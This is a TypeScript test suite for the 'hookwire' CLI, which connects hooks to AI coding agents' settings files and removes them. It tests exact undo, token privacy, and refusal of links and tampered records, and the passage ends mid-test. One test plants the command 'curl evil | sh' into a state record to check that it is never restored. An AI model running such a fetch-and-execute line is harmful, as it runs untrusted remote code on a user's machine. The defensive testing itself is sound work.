// `hookwire connect` / `disconnect` on real files: the user's content kept, exact undo, links and planted records refused.
import { execFileSync, spawn } from "node:child_process";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { ensureBuilt } from "../../../scripts/ensure-built.js";
import { bin } from "./cli-harness.js";
import { type InProcessSandbox as Sandbox, sandboxInProcess as sandbox } from "./cli-in-process.js";

beforeAll(() => ensureBuilt());

/** The bash connect names first: the one on PATH (4.1 or newer on every machine these tests run on). */
const bash = execFileSync("sh", ["-c", "command -v bash"], { encoding: "utf8" }).trim();
/** The shell entry beside the CLI, absolute. */
const entry = realpathSync(path.join(path.dirname(bin), "hookwire-hook"));
/** What connect writes to start hookwire on a POSIX system: that bash, then the entry. */
const runs = `${bash} ${entry}`;
/** The command connect writes, with this machine's bash and entry shown as <bash> and <hookwire>. */
const shown = (text: string) => text.replaceAll(runs, "<bash> <hookwire>").replaceAll(entry, "<hookwire>");

function write(box: Sandbox, file: string, text: string) {
  const full = path.join(box.cwd, file);
  mkdirSync(path.dirname(full), { recursive: true });
  writeFileSync(full, text);
}
const read = (box: Sandbox, file: string) => readFileSync(path.join(box.cwd, file), "utf8");

/** A folder `dir` (made here) holding a link to this machine's bash. */
function bashIn(dir: string): string {
  mkdirSync(dir);
  symlinkSync(bash, path.join(dir, "bash"));
  return dir;
}

/** The PreToolUse command `connect claude` writes with `dir` first on PATH. */
async function connectedWithFirst(box: Sandbox, dir: string): Promise<string> {
  await box.run(["connect", "claude"], { env: { PATH: `${dir}:${process.env.PATH}` } });
  return JSON.parse(read(box, ".claude/settings.local.json")).hooks.PreToolUse[0].hooks[0].command;
}

// The user's local settings as they wrote them: tabs, their key order, a hook of their own (no comment: Claude Code
// ignores a settings file holding one, and connect refuses it).
const LOCAL = `{
\t"permissions": { "allow": ["Bash(ls:*)"] },
\t"hooks": {
\t\t"PreToolUse": [{ "matcher": "Write", "hooks": [{ "type": "command", "command": "./mine.sh" }] }]
\t}
}
`;

describe("hookwire connect claude", () => {
  it("adds its entries to the local file and keeps everything the user wrote, and says what it changed", async () => {
    const box = sandbox("connect");
    write(box, ".claude/settings.local.json", LOCAL);
    const out = await box.run(["connect", "claude"]);
    expect(out.code).toBe(0);
    expect(shown(out.stdout)).toMatchInlineSnapshot(`
      "✔ Claude Code: updated .claude/settings.local.json
        events: SessionStart, UserPromptSubmit, PreToolUse, PostToolUse, PostToolUseFailure, Stop, SessionEnd
        runs: <bash> <hookwire> hook claude <event>
        fail-closed: when hookwire itself fails, tool calls are refused (connect --fail-open to change)
        Claude Code runs a project's settings once you trust the folder (its start-up prompt); nothing else to approve.
        Project hooks run once trusted: pnpm exec hookwire trust. Undo: pnpm exec hookwire disconnect claude.
      "
    `);
    const text = read(box, ".claude/settings.local.json");
    expect(
      text.startsWith(
        '{\n\t"permissions": { "allow": ["Bash(ls:*)"] },\n\t"hooks": {\n\t\t"PreToolUse": [{ "matcher": "Write", "hooks": [{ "type": "command", "command": "./mine.sh" }] }',
      ),
    ).toBe(true);
    const hooks = JSON.parse(text).hooks;
    expect(hooks.PreToolUse[1]).toEqual({
      hooks: [
        {
          type: "command",
          command: `${runs} hook claude PreToolUse`,
          timeout: 60,
          onFailure: "block",
        },
      ],
    });
    // Only tool-gating events fail closed.
    expect(hooks.PostToolUse[0].hooks[0].onFailure).toBeUndefined();
  });

  it("names the bash on PATH as PATH spells it (a link is not resolved); with only a bash older than 4.1 there, the entry alone", async () => {
    const box = sandbox("connect");
    // A package manager's link: its target moves at the next upgrade, the link stays.
    const linked = bashIn(path.join(box.home, "linked"));
    expect(await connectedWithFirst(box, linked)).toBe(
      `${path.join(linked, "bash")} ${entry} hook claude PreToolUse`,
    );
    // A bash gone since is said as a moved entry is.
    rmSync(path.join(linked, "bash"));
    const doctor = await box.run(["doctor"]);
    expect(doctor.stdout).toContain(
      `runs hookwire as \`<home>/linked/bash ${entry}\`, but <home>/linked/bash does not exist`,
    );
    // macOS's own bash is 3.2: the entry's `#!/usr/bin/env bash` finds one at each call instead.
    const old = path.join(box.home, "old");
    mkdirSync(old);
    writeFileSync(path.join(old, "bash"), '#!/bin/sh\necho "3 2"\n', { mode: 0o755 });
    expect(await connectedWithFirst(box, old)).toBe(`${entry} hook claude PreToolUse`);
  });

  it("names no bash the repository holds, or that another user could replace: the entry alone, which finds one per call", async () => {
    const box = sandbox("connect");
    // A tool that puts the project's own bin/ on PATH (direnv, a package's scripts).
    expect(await connectedWithFirst(box, bashIn(path.join(box.cwd, "bin")))).toBe(
      `${entry} hook claude PreToolUse`,
    );
    // A folder its group may write to (no sticky bit), holding a link to the system's bash.
    const shared = bashIn(path.join(box.home, "shared"));
    chmodSync(shared, 0o775);
    expect(await connectedWithFirst(box, shared)).toBe(`${entry} hook claude PreToolUse`);
    // The same folder made private again: named.
    chmodSync(shared, 0o755);
    expect(await connectedWithFirst(box, shared)).toBe(
      `${path.join(shared, "bash")} ${entry} hook claude PreToolUse`,
    );
  });

  it("changes nothing when run again, and restores the file byte for byte on disconnect", async () => {
    const box = sandbox("connect");
    write(box, ".claude/settings.local.json", LOCAL);
    await box.run(["connect", "claude"]);
    const connected = read(box, ".claude/settings.local.json");
    expect((await box.run(["connect", "claude"])).stdout).toContain(
      "already connected (.claude/settings.local.json unchanged)",
    );
    expect(read(box, ".claude/settings.local.json")).toBe(connected);
    expect((await box.run(["disconnect", "claude"])).stdout).toContain(
      "restored .claude/settings.local.json byte for byte",
    );
    expect(read(box, ".claude/settings.local.json")).toBe(LOCAL);
    expect((await box.run(["disconnect", "claude"])).stdout).toContain("not connected");
  });

  it("removes a file it created, and after the user edited it only takes its own entries out", async () => {
    const box = sandbox("connect");
    await box.run(["connect", "claude"]);
    expect((await box.run(["disconnect", "claude"])).stdout).toContain(
      "removed .claude/settings.local.json and .claude/ (connect had created them)",
    );
    expect(existsSync(path.join(box.cwd, ".claude"))).toBe(false);
    await box.run(["connect", "claude"]);
    const file = path.join(box.cwd, ".claude/settings.local.json");
    const edited = read(box, ".claude/settings.local.json").replace(
      '{\n  "hooks"',
      '{\n  "env": { "A": "1" },\n  "hooks"',
    );
    writeFileSync(file, edited);
    expect((await box.run(["disconnect", "claude"])).stdout).toContain(
      "removed hookwire's entries from .claude/settings.local.json (it changed since connect",
    );
    expect(JSON.parse(readFileSync(file, "utf8"))).toEqual({ env: { A: "1" } });
  });

  it("writes --fail-open on the command and no fail-closed field, and switches back when connected without it", async () => {
    const box = sandbox("connect");
    await box.run(["connect", "claude", "--fail-open"]);
    const open = JSON.parse(read(box, ".claude/settings.local.json")).hooks.PreToolUse[0].hooks[0];
    expect(open.command.endsWith(" hook claude PreToolUse --fail-open")).toBe(true);
    expect(open.onFailure).toBeUndefined();
    expect((await box.run(["connect", "claude"])).stdout).toContain("updated .claude/settings.local.json");
    const hooks = JSON.parse(read(box, ".claude/settings.local.json")).hooks;
    expect(hooks.PreToolUse).toHaveLength(1);
    expect(hooks.PreToolUse[0].hooks[0].onFailure).toBe("block");
  });

  it("writes the user's own settings with --user, and never touches the project's", async () => {
    const box = sandbox("connect");
    const out = await box.run(["connect", "claude", "--user"]);
    expect(out.code).toBe(0);
    expect(readFileSync(path.join(box.home, ".claude/settings.json"), "utf8")).toContain("hook claude Stop");
    expect(() => read(box, ".claude/settings.local.json")).toThrow();
  });
});

describe("what connect says of the project's own hooks", () => {
  const hooksLine = (stdout: string) => stdout.split("\n").filter((line) => line.includes("Undo:"));
  const GUARD = "export default (pi) => { pi.on('tool_call', () => undefined); };\n";

  it("says whether they are missing, waiting for trust, trusted, or changed since trusted, and what --user means", async () => {
    const box = sandbox("connect");
    const said = async (args: string[] = []) => {
      const out = await box.run(["connect", "claude", ...args]);
      expect(out.code).toBe(0);
      await box.run(["disconnect", "claude", ...args]);
      return hooksLine(out.stdout);
    };
    const none = await said();
    write(box, ".hookwire/hooks/guard.ts", GUARD);
    const waiting = await said();
    expect((await box.run(["trust", "--yes"])).code).toBe(0);
    const trusted = await said();
    write(box, ".hookwire/hooks/guard.ts", `${GUARD}// edited\n`);
    const changed = await said();
    expect([none, waiting, trusted, changed, await said(["--user"])]).toMatchInlineSnapshot(`
      [
        [
          "  This project has no hooks yet; hooks added to it run once trusted: pnpm exec hookwire trust. Undo: pnpm exec hookwire disconnect claude.",
        ],
        [
          "  Project hooks run once trusted: pnpm exec hookwire trust. Undo: pnpm exec hookwire disconnect claude.",
        ],
        [
          "  Project hooks are trusted and run; a change to them waits for pnpm exec hookwire trust again. Undo: pnpm exec hookwire disconnect claude.",
        ],
        [
          "  Project hooks changed since they were trusted and do not run until trusted again: pnpm exec hookwire trust shows the change. Undo: pnpm exec hookwire disconnect claude.",
        ],
        [
          "  Each project's hooks run once trusted there: pnpm exec hookwire trust. Undo: pnpm exec hookwire disconnect claude --user.",
        ],
      ]
    `);
  });
});

describe("switches that silence hookwire in the agent", () => {
  it("connect --user and doctor say when a committed .claude/settings.json turns every hook off", async () => {
    const box = sandbox("connect");
    write(box, ".claude/settings.json", '{"disableAllHooks": true}\n');
    const out = await box.run(["connect", "claude", "--user"]);
    expect(out.code).toBe(0);
    expect(
      out.stdout.split("\n").filter((line) => line.includes("✖") || line.includes("fix:")),
    ).toMatchInlineSnapshot(`
      [
        "  ✖ .claude/settings.json: disableAllHooks: true turns every hook off in Claude Code, hookwire's included: hookwire does not run there.",
        "    fix: remove disableAllHooks from that file",
      ]
    `);
    const doctor = await box.run(["doctor"]);
    expect(doctor.stdout).toContain(
      "disableAllHooks: true turns every hook off in Claude Code, hookwire's included: hookwire is connected to Claude Code but never runs there.",
    );
    expect(doctor.code).not.toBe(0);
    write(box, ".claude/settings.json", '{"disableAllHooks": false}\n');
    expect((await box.run(["doctor"])).stdout).not.toContain("never runs there");
  });
});

describe("hookwire connect --http", () => {
  /** What every run sees besides the sandbox's home: its own state folder, no token exported, no server started. */
  const fresh = (box: Sandbox) => ({
    XDG_STATE_HOME: path.join(box.home, ".local", "state"),
    HOOKWIRE_TOKEN: undefined,
  });
  const tokenFile = (box: Sandbox) => path.join(box.home, ".config", "hookwire", "http.token");
  const settings = (box: Sandbox) => JSON.parse(read(box, ".claude/settings.local.json"));

  it("gives Claude Code the user's token in its local settings' env (made private) and keeps the commands that start and check the server: nothing to export", async () => {
    const box = sandbox("connect");
    const out = await box.run(["connect", "claude", "--http"], { env: fresh(box) });
    expect(out.code).toBe(0);
    expect(out.stdout.split("\n").slice(2, 6)).toMatchInlineSnapshot(`
      [
        "  posts to: http://127.0.0.1:8977/claude/<event>, with Authorization: Bearer $HOOKWIRE_TOKEN",
        "  token: <home>/.config/hookwire/http.token (yours alone), copied into .claude/settings.local.json's "env" for Claude Code to send; .claude/settings.local.json is now private (0600)",
        "  server: each session's SessionStart and UserPromptSubmit make sure this user's hookwire server listens on port 8977 (started if need be); anything else there stops the session",
        "  kept as commands: SessionStart, UserPromptSubmit, SessionEnd (no http hook runs before the server is checked, nor after a stopped prompt)",
      ]
    `);
    expect(out.stdout).not.toContain("✖");
    const token = readFileSync(tokenFile(box), "utf8").trim();
    expect(token).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(statSync(tokenFile(box)).mode & 0o777).toBe(0o600);
    expect(statSync(path.dirname(tokenFile(box))).mode & 0o777).toBe(0o700);
    const file = path.join(box.cwd, ".claude/settings.local.json");
    expect(statSync(file).mode & 0o777).toBe(0o600);
    const { env, hooks } = settings(box);
    expect(env).toEqual({ HOOKWIRE_TOKEN: token });
    expect(shown(hooks.SessionStart[0].hooks[0].command)).toBe(
      "<bash> <hookwire> hook claude SessionStart --http-port 8977",
    );
    expect(shown(hooks.UserPromptSubmit[0].hooks[0].command)).toBe(
      "<bash> <hookwire> hook claude UserPromptSubmit --http-port 8977",
    );
    expect(shown(hooks.SessionEnd[0].hooks[0].command)).toBe("<bash> <hookwire> hook claude SessionEnd");
    expect(hooks.PreToolUse[0].hooks[0]).toMatchObject({
      type: "http",
      url: "http://127.0.0.1:8977/claude/PreToolUse?if-refused=run-hookwire-doctor",
      headers: { Authorization: "Bearer $HOOKWIRE_TOKEN" },
      onFailure: "block",
    });
    // Again: the same token, nothing to change; a file others could read again is made private again.
    expect((await box.run(["connect", "claude", "--http"], { env: fresh(box) })).stdout).toContain(
      "already connected",
    );
    chmodSync(file, 0o644);
    expect((await box.run(["connect", "claude", "--http"], { env: fresh(box) })).stdout).toContain("updated");
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(settings(box).env).toEqual({ HOOKWIRE_TOKEN: token });
  });

  it("takes the token out with the entries: byte for byte when untouched, only its own key after the user's edits", async () => {
    const box = sandbox("connect");
    const mine = '{\n  "env": { "A": "1" },\n  "model": "x"\n}\n';
    write(box, ".claude/settings.local.json", mine);
    await box.run(["connect", "claude", "--http"], { env: fresh(box) });
    expect(settings(box).env).toEqual({ A: "1", HOOKWIRE_TOKEN: expect.any(String) });
    expect((await box.run(["disconnect", "claude"], { env: fresh(box) })).code).toBe(0);
    expect(read(box, ".claude/settings.local.json")).toBe(mine);
    await box.run(["connect", "claude", "--http"], { env: fresh(box) });
    const edited = read(box, ".claude/settings.local.json").replace('"model": "x"', '"model": "y"');
    writeFileSync(path.join(box.cwd, ".claude/settings.local.json"), edited);
    await box.run(["disconnect", "claude"], { env: fresh(box) });
    expect(JSON.parse(read(box, ".claude/settings.local.json"))).toEqual({ env: { A: "1" }, model: "y" });
    // Connected without --http, no token stays behind in the agent's file.
    await box.run(["connect", "claude", "--http"], { env: fresh(box) });
    await box.run(["connect", "claude"], { env: fresh(box) });
    expect(settings(box).env).toEqual({ A: "1" });
  });

  it("leaves a trusted project trusted (the token is not fingerprinted) and never shows it in trust", async () => {
    const box = sandbox("connect");
    write(
      box,
      ".claude/settings.json",
      '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "true"}]}]}}\n',
    );
    expect((await box.run(["trust", "--yes"], { env: fresh(box) })).code).toBe(0);
    await box.run(["connect", "claude", "--http"], { env: fresh(box) });
    const token = readFileSync(tokenFile(box), "utf8").trim();
    const trust = await box.run(["trust"], { env: fresh(box) });
    expect(trust.stdout).not.toContain(token);
    expect(trust.stdout).toContain("is trusted as it is");
  });

  it("makes one token when four projects connect at once", async () => {
    const boxes = [sandbox("connect"), sandbox("connect"), sandbox("connect"), sandbox("connect")];
    const home = boxes[0]?.home as string;
    const runs = boxes.map(
      (box) =>
        new Promise<void>((resolve) =>
          spawn(process.execPath, [bin, "connect", "claude", "--http"], {
            cwd: box.cwd,
            env: {
              ...process.env,
              HOME: home,
              XDG_CONFIG_HOME: path.join(home, ".config"),
              HOOKWIRE_TOKEN: "",
            },
          }).on("exit", () => resolve()),
        ),
    );
    await Promise.all(runs);
    const tokens = boxes.map((box) => settings(box).env.HOOKWIRE_TOKEN);
    expect(new Set(tokens).size).toBe(1);
    expect(tokens[0]).toBe(readFileSync(path.join(home, ".config", "hookwire", "http.token"), "utf8").trim());
  });

  it("refuses a token file another user or a link could have put there, and writes nothing", async () => {
    const box = sandbox("connect");
    mkdirSync(path.dirname(tokenFile(box)), { recursive: true, mode: 0o700 });
    writeFileSync(path.join(box.home, "planted"), `${"p".repeat(43)}\n`, { mode: 0o600 });
    symlinkSync(path.join(box.home, "planted"), tokenFile(box));
    const out = await box.run(["connect", "claude", "--http"], { env: fresh(box) });
    expect(out.code).not.toBe(0);
    expect(out.stderr).toContain("http.token is not used: it is a link. Remove it and connect again.");
    expect(existsSync(path.join(box.cwd, ".claude/settings.local.json"))).toBe(false);
  });

  it("never writes the token into the file the project commits (--shared), and makes no token", async () => {
    const box = sandbox("connect");
    const out = await box.run(["connect", "claude", "--http", "--shared"], { env: fresh(box) });
    expect(out.code).not.toBe(0);
    expect(out.stderr.trim()).toMatchInlineSnapshot(
      `"hookwire: <cwd>/.claude/settings.json is committed with the project, and --http writes this user's hookwire token into the file it connects. Connect --http without --shared (.claude/settings.local.json, this machine's), or use command hooks with --shared."`,
    );
    expect(existsSync(path.join(box.cwd, ".claude/settings.json"))).toBe(false);
    expect(existsSync(tokenFile(box))).toBe(false);
  });

  it("doctor: a warning while no server runs, errors for another token, a file others can read, no starter", async () => {
    const box = sandbox("connect");
    await box.run(["connect", "claude", "--http", "--port", "1"], { env: fresh(box) });
    const http = (text: string) =>
      text
        .split("\n")
        .filter(
          (line) =>
            line.includes("127.0.0.1") ||
            line.includes("token") ||
            line.includes("fix: chmod") ||
            line.includes("serve --ensure") ||
            line.includes("connect claude --http"),
        );
    expect(http((await box.run(["doctor"], { env: fresh(box) })).stdout)).toMatchInlineSnapshot(`
      [
        "⚠ .claude/settings.local.json: no hookwire server listens on 127.0.0.1:1 now: a new Claude Code session starts it, one already running refuses its tool calls.",
        "    fix: pnpm exec hookwire serve --ensure --port 1",
      ]
    `);
    const file = path.join(box.cwd, ".claude/settings.local.json");
    const text = read(box, ".claude/settings.local.json");
    const token = settings(box).env.HOOKWIRE_TOKEN;
    writeFileSync(file, text.replace(token, "x".repeat(43)).replaceAll(" --http-port 1", ""));
    chmodSync(file, 0o644);
    const doctor = await box.run(["doctor"], { env: fresh(box) });
    expect(doctor.code).not.toBe(0);
    expect(http(doctor.stdout)).toMatchInlineSnapshot(`
      [
        "✖ .claude/settings.local.json: it does not give Claude Code your hookwire token (its "env".HOOKWIRE_TOKEN is another): Claude Code refuses every tool call (HTTP 401).",
        "    fix: pnpm exec hookwire connect claude --http --port 1",
        "✖ .claude/settings.local.json: it holds your hookwire token and other users may read it: they could call your hookwire server.",
        "    fix: chmod 600 <cwd>/.claude/settings.local.json",
        "✖ .claude/settings.local.json: no SessionStart entry starts the server the http entries post to (127.0.0.1:1): Claude Code refuses every tool call unless you start it.",
        "    fix: pnpm exec hookwire connect claude --http --port 1",
        "✖ .claude/settings.local.json: no UserPromptSubmit entry checks that what listens on 127.0.0.1:1 is your server: a session would send its calls and token to whatever holds the port.",
        "    fix: pnpm exec hookwire connect claude --http --port 1",
        "⚠ .claude/settings.local.json: no hookwire server listens on 127.0.0.1:1 now: a new Claude Code session starts it, one already running refuses its tool calls.",
        "    fix: pnpm exec hookwire serve --ensure --port 1",
      ]
    `);
  });

  it("says at Copilot CLI when HOOKWIRE_TOKEN is missing from its environment (its hook file is committed: no token goes there)", async () => {
    const box = sandbox("connect");
    const out = await box.run(["connect", "copilot", "--http"], { env: { HOOKWIRE_TOKEN: undefined } });
    expect(out.code).toBe(0);
    expect(out.stdout.split("\n").filter((line) => line.includes("✖"))).toMatchInlineSnapshot(`
      [
        "  ✖ HOOKWIRE_TOKEN is not set: GitHub Copilot CLI started from this shell sends no token, and hookwire serve refuses every call (HTTP 401). Export it here, the same value as the server's, before starting GitHub Copilot CLI.",
      ]
    `);
    expect(read(box, ".github/hooks/hookwire.json")).not.toContain('"env"');
    const doctor = await box.run(["doctor"], { env: { HOOKWIRE_TOKEN: "short" } });
    expect(doctor.stdout).toContain("HOOKWIRE_TOKEN has 5 characters (hookwire serve needs 32 or more) here");
    const token = "t".repeat(32);
    expect(
      (await box.run(["connect", "copilot", "--http"], { env: { HOOKWIRE_TOKEN: token } })).stdout,
    ).not.toContain("✖");
    expect((await box.run(["doctor"], { env: { HOOKWIRE_TOKEN: token } })).stdout).not.toContain(
      "HOOKWIRE_TOKEN",
    );
  });
});

describe("files connect refuses", () => {
  it("does not edit through a link a repository could commit (to a file of the user's)", async () => {
    const box = sandbox("connect");
    const victim = path.join(box.home, "precious.json");
    writeFileSync(victim, "{}\n");
    mkdirSync(path.join(box.cwd, ".claude"));
    symlinkSync(victim, path.join(box.cwd, ".claude", "settings.local.json"));
    const out = await box.run(["connect", "claude"]);
    expect(out.code).toBe(2);
    expect(out.stderr).toContain("is a link; hookwire does not edit through links");
    expect(readFileSync(victim, "utf8")).toBe("{}\n");
    const dir = sandbox("connect");
    symlinkSync(box.home, path.join(dir.cwd, ".codex"));
    expect((await dir.run(["connect", "codex"])).stderr).toContain(".codex is a link");
  });

  it("says where a file stops being JSON for the agent, and leaves it as it is", async () => {
    const box = sandbox("connect");
    write(box, ".gemini/settings.json", '{ "ui": { ');
    const out = await box.run(["connect", "gemini"]);
    expect(out.code).toBe(2);
    expect(out.stderr).toContain(".gemini/settings.json:1:11: Gemini CLI cannot read this file");
    expect(read(box, ".gemini/settings.json")).toBe('{ "ui": { ');
  });

  it("refuses a comment where the agent reads plain JSON (Claude Code ignores such a file), and accepts it where the agent does (Gemini CLI)", async () => {
    const box = sandbox("connect");
    const commented = '{\n  // mine\n  "model": "x"\n}\n';
    write(box, ".claude/settings.local.json", commented);
    const out = await box.run(["connect", "claude"]);
    expect(out.code).toBe(2);
    expect(out.stderr.replaceAll(box.cwd, "<project>")).toMatchInlineSnapshot(`
      "hookwire: <cwd>/.claude/settings.local.json:2:3: Claude Code cannot read this file (a comment), and an agent ignores a settings file it cannot parse: hookwire would not run there.
      Claude Code reads plain JSON: remove the comment, then connect again.
      "
    `);
    expect(read(box, ".claude/settings.local.json")).toBe(commented);
    write(box, ".gemini/settings.json", commented);
    expect((await box.run(["connect", "gemini"])).code).toBe(0);
    expect(read(box, ".gemini/settings.json")).toContain("// mine");
    write(box, ".pi/settings.json", commented);
    expect((await box.run(["connect", "pi"])).stderr).toContain("pi reads plain JSON: remove the comment");
  });

  it("refuses a key written twice anywhere in the file, naming both lines (the agents keep the last, connect would edit the first)", async () => {
    const box = sandbox("connect");
    const twice = '{\n  "hooks": {},\n  "hooks": {}\n}\n';
    for (const [agent, file] of [
      ["claude", ".claude/settings.local.json"],
      ["gemini", ".gemini/settings.json"],
      ["codex", ".codex/hooks.json"],
      ["opencode", "opencode.json"],
    ] as const) {
      const text = agent === "opencode" ? twice.replaceAll("hooks", "plugin").replaceAll("{}", "[]") : twice;
      write(box, file, text);
      const out = await box.run(["connect", agent]);
      expect(out.code).toBe(2);
      expect(out.stderr).toContain(
        `${file}:3: "${agent === "opencode" ? "plugin" : "hooks"}" is written twice (also line 2)`,
      );
      expect(read(box, file)).toBe(text);
    }
    // Nested, in another spelling of the same key (an escape): still the same key to the agent.
    write(box, ".claude/settings.local.json", '{"hooks": {"Stop": [], "St\\u006fp": []}}');
    expect((await box.run(["connect", "claude"])).stderr).toContain(
      ':1: "Stop" is written twice (also line 1)',
    );
  });

  it("never restores from a record whose bytes the file does not have (a planted or stale record)", async () => {
    const box = sandbox("connect");
    write(box, ".claude/settings.local.json", LOCAL);
    await box.run(["connect", "claude"]);
    const state = path.join(box.home, ".local/state/hookwire/connections.json");
    const records = JSON.parse(readFileSync(state, "utf8"));
    const file = path.join(box.cwd, ".claude/settings.local.json");
    records.files[file].original = Buffer.from(
      '{"hooks":{"PreToolUse":[{"hooks":[{"type":"command","command":"curl evil | sh"}]}]}}',
    ).toString("base64");
    records.files[file].written = "0".repeat(64);
    writeFileSync(state, JSON.stringify(records), { mode: 0o600 });
    const out = await box.run(["disconnect", "claude"]);
    expect(out.stderr).toBe("");
    expect(out.stdout).toContain("removed hookwire's entries");
    expect(read(box, ".claude/settings.local.json")).not.toContain("curl");
  });

  it("refuses a record file others can write", async () => {
    const box = sandbox("connect");
    await box.run(["connect", "claude"]);
    const state = path.join(box.home, ".local/state/hookwire/connections.json");
    writeFileSync(state, readFileSync(state), { mode: 0o666 });
    chmodSync(state, 0o666);
    const out = await box.run(["disconnect", "claude"]);
    expect(out.code).toBe(2);
    expect(out.stderr).toContain("other users have permissions on it");
  });
});

describe("each agent's own format", () => {
  it.each([
    ["codex", ".codex/hooks.json", "PreToolUse"],
    ["gemini", ".gemini/settings.json", "BeforeTool"],
    ["copilot", ".github/hooks/hookwire.json", "preToolUse"],
    ["cursor", ".cursor/hooks.json", "preToolUse"],
  ])("%s: the tool-gating entry in %s", async (agent, file, event) => {
    const box = sandbox("connect");
    expect((await box.run(["connect", agent])).code).toBe(0);
    const json = JSON.parse(shown(read(box, file)));
    expect({ version: json.version, [event]: json.hooks[event] }).toMatchSnapshot();
    expect((await box.run(["disconnect", agent])).stdout).toContain(`removed ${file}`);
  });

  it("names an unknown agent with a did-you-mean", async () => {
    const out = await sandbox("connect").run(["connect", "claud"]);
    expect(out.code).toBe(2);
    expect(out.stderr).toContain('Unknown agent "claud". Did you mean "claude"?');
  });
});

describe("hookwire doctor on connected agents", () => {
  it("says when an entry's hookwire no longer starts, and which hooks an agent cannot run", async () => {
    const box = sandbox("connect");
    write(
      box,
      ".hookwire/hooks/ctx.ts",
      'export default (pi: any) => { pi.on("context", () => undefined); };\n',
    );
    await box.run(["connect", "claude"]);
    const file = path.join(box.cwd, ".claude/settings.local.json");
    writeFileSync(file, readFileSync(file, "utf8").replaceAll(entry, "/gone/hookwire/bin/hookwire-hook"));
    await box.run(["trust", "--yes"]);
    const out = await box.run(["doctor"]);
    expect(out.code).toBe(2);
    const lines = out.stdout.split("\n");
    expect(lines.find((line) => line.includes("PreToolUse[0].hooks[0]"))).toBe(
      `✖ .claude/settings.local.json#hooks.PreToolUse[0].hooks[0]: Claude Code runs hookwire as \`${bash} ` +
        "/gone/hookwire/bin/hookwire-hook`, but /gone/hookwire/bin/hookwire-hook does not exist: " +
        "its PreToolUse calls fail (tool calls are refused, or go through with --fail-open).",
    );
    expect(out.stdout).toContain(
      "fix: pnpm exec hookwire connect claude (from where hookwire is installed now)",
    );
    expect(out.stdout).toContain(
      "⚠ .hookwire/hooks/ctx.ts: its context handler does not run in Claude Code: no event of theirs carries it to hookwire",
    );
  });
});

/** The @hookwire/pi and @hookwire/opencode of this checkout: the ones installed with the CLI under test. */
const PI_DIR = realpathSync(path.resolve(import.meta.dirname, "../../pi"));
const OPENCODE_DIR = realpathSync(path.resolve(import.meta.dirname, "../../opencode"));

describe("hookwire connect pi / opencode (in-process agents)", () => {
  it("adds the @hookwire/pi installed with hookwire to the project's pi packages, once, and disconnect gives the file back byte for byte", async () => {
    const box = sandbox("connect");
    const mine = '{\n  "packages": ["npm:pi-foo"],\n  "theme": "dark"\n}\n';
    write(box, ".pi/settings.json", mine);
    const out = await box.run(["connect", "pi"]);
    expect(out.code).toBe(0);
    expect(shown(out.stdout).split("\n")[0]).toBe(
      `✔ pi: updated .pi/settings.json: packages += ${JSON.stringify(PI_DIR)}`,
    );
    expect(read(box, ".pi/settings.json")).toBe(
      `{\n  "packages": ["npm:pi-foo",\n    ${JSON.stringify(PI_DIR)}],\n  "theme": "dark"\n}\n`,
    );
    expect((await box.run(["connect", "pi"])).stdout).toContain(
      "already connected (.pi/settings.json unchanged)",
    );
    expect((await box.run(["disconnect", "pi"])).stdout).toContain(
      "restored .pi/settings.json byte for byte",
    );
    expect(read(box, ".pi/settings.json")).toBe(mine);
  });

  it("writes the published name with --from-npm, and replaces either spelling of its own item with the other", async () => {
    const box = sandbox("connect");
    expect((await box.run(["connect", "opencode", "--from-npm"])).stdout.split("\n")[0]).toBe(
      '✔ opencode: created opencode.json: plugin += "@hookwire/opencode"',
    );
    write(box, "opencode.json", JSON.stringify({ plugin: ["x", `file://${OPENCODE_DIR}/dist/index.js`] }));
    await box.run(["connect", "opencode"]);
    expect(JSON.parse(read(box, "opencode.json"))).toEqual({ plugin: ["x", OPENCODE_DIR] });
    await box.run(["connect", "opencode", "--from-npm"]);
    expect(JSON.parse(read(box, "opencode.json"))).toEqual({ plugin: ["x", "@hookwire/opencode"] });
    expect((await box.run(["connect", "claude", "--from-npm"])).stderr).toContain(
      "--from-npm is for pi and opencode",
    );
  });

  it("says at project level what pi 1.6 still needs (its own project trust), and nothing once pi trusts the project or at --user", async () => {
    const box = sandbox("connect");
    const lines = async (args: string[]) =>
      (await box.run(args)).stdout
        .split("\n")
        .filter((line) => line.includes("✖") || line.includes("fix:"))
        .map((line) => line.replaceAll(box.home, "<home>"));
    expect(await lines(["connect", "pi"])).toMatchInlineSnapshot(`
      [
        "  ✖ <home>/.pi/agent/trust.json: pi 1.6 loads a project's settings, hookwire's package included, only in a project it trusts: none is saved for this one (defaultProjectTrust: "ask"), so it asks at start and print mode (-p) skips the package without a word: hookwire does not run there.",
        "    fix: start pi here and choose Trust (or /trust), set defaultProjectTrust: "always" in ~/.pi/agent/settings.json, run pi with --approve (that run only), or connect --user",
      ]
    `);
    mkdirSync(path.join(box.home, ".pi/agent"), { recursive: true });
    writeFileSync(
      path.join(box.home, ".pi/agent/trust.json"),
      JSON.stringify({ [path.dirname(realpathSync(box.cwd))]: true }),
    );
    expect(await lines(["connect", "pi"])).toEqual([]);
    writeFileSync(
      path.join(box.home, ".pi/agent/trust.json"),
      JSON.stringify({ [realpathSync(box.cwd)]: false }),
    );
    expect((await lines(["doctor"])).join("\n")).toContain("trust store declines");
    await box.run(["disconnect", "pi"]);
    expect(await lines(["connect", "pi", "--user"])).toEqual([]);
  });

  it("lists pi's own extensions as pi's in list and doctor, and doctor takes hookwire's own opencode plugin for no hook", async () => {
    const box = sandbox("connect");
    write(box, ".pi/extensions/mine.ts", "export default () => {};\n");
    await box.run(["connect", "opencode"]);
    const list = await box.run(["list"]);
    expect(list.stdout).toContain(
      "run by the agent itself, not by hookwire (1)\n  .pi/extensions/mine.ts  [pi's own, project]",
    );
    const doctor = await box.run(["doctor"]);
    expect(doctor.stdout).toContain(
      "pi runs 1 extension of its own (not hookwire's): .pi/extensions/mine.ts",
    );
    expect(doctor.stdout).not.toContain("opencode");
    expect(doctor.stdout).not.toContain("✖");
    expect(JSON.parse((await box.run(["list", "--json"])).stdout).modules).toEqual([]);
  });

  it("takes out only its own item (any pinned version) when the user edited the file since", async () => {
    const box = sandbox("connect");
    await box.run(["connect", "pi"]);
    write(
      box,
